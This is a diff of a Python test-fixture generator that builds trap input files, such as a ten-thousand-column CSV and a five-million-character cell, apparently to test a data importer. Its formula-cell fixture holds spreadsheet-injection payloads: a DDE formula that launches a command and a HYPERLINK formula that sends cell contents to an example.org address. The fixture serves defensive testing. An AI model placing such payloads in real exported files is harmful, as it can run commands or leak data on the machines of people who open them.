@@ -35,8 +35,11 @@ def files(rng: Random) -> Iterator[Negative]:
     workbook = present(_payroll(rng), "x.csv", Presentation(container="xlsx"))[1]
     yield Negative("payroll workbook", "table", "payroll.xlsx", workbook)
     yield Negative("ten thousand columns", "trap", "wide.csv", _wide())
-    yield Negative("formula cells", "trap", "formulas.csv", _formulas())
-    yield Negative("one cell of five million characters", "trap", "cell.csv", _large_cell())
+    cells = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org/?"&A1,"open")', "@SUM(1+1)", "+1+1", "-2"]
+    formulas = _written([["=1+1", "=A1", "@x", "+y", "-z"], *([cells] * 40)])
+    yield Negative("formula cells", "trap", "formulas.csv", formulas)
+    large = _written([["UPN", "Surname", "Forename"], [upn("2000", 2019, 1), "x" * 5_000_000, "Ann"]])
+    yield Negative("one cell of five million characters", "trap", "cell.csv", large)
     yield Negative("quote that never closes", "broken", "pupils.csv", _unclosed())
 
 
@@ -73,15 +76,6 @@ def _wide() -> bytes:
         10_000 - len(known)
     )
     return _written([header, *([row] * 30)])
-
-
-def _formulas() -> bytes:
-    cells = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org/?"&A1,"open")', "@SUM(1+1)", "+1+1", "-2"]
-    return _written([["=1+1", "=A1", "@x", "+y", "-z"], *([cells] * 40)])
-
-
-def _large_cell() -> bytes:
-    return _written([["UPN", "Surname", "Forename"], [upn("2000", 2019, 1), "x" * 5_000_000, "Ann"]])
 
 
 def _unclosed() -> bytes:
